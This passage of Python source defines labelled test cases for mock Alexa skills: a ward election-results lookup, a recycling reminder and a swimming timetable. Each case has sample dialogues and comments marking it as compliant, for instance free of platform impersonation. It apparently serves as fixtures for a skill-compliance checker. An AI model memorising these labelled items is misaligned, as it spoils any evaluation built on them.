        L("Local Election Results, using published council declarations. This skill is independent, not made by Amazon.", "Which ward?"),
        T("who won in hyde park", "WardIntent", "In Hyde Park and Woodhouse, the Green candidate won with 1,912 votes.", None, True, s={"ward": "hyde park"})])],
    [], "Mentions Amazon only to say it is independent of it; no platform impersonation.",
    types=[("Ward", ["hyde park", "headingley", "kirkstall"])]))

C.append(A("103044-recycling-reminder", "en-GB", "recycling reminder", "Recycling Reminder",
    [("WeekIntent", ["is it recycling week", "which week is it"])],
    [("smapi-invocation", "smapi/out.json", [
        L("Recycling Reminder. It's a recycling week, blue bin out on Thursday.", None, True)])],
    [], "The invocation is exactly the catalog name 'recycling reminder'; ordinary behaviour."))

C.append(A("103045-swimming-timetable", "en-GB", "leisure centre timetable", "Leisure Centre Timetable",
    [("SwimIntent", ["when is lane swimming", "public swim times"])],
    [("pairs-array", "tests/pairs.json", [
        L("Leisure Centre Timetable. Ask about swim times.", "Ask, when is lane swimming?"),
        T("when is lane swimming", "SwimIntent", "Lane swimming is seven till nine every weekday morning.", "Anything else?", False),
        T("cancel", "AMAZON.CancelIntent", "No problem, goodbye.", None, True)])],
    [], "Ordinary timetable skill; Cancel closes the session."))
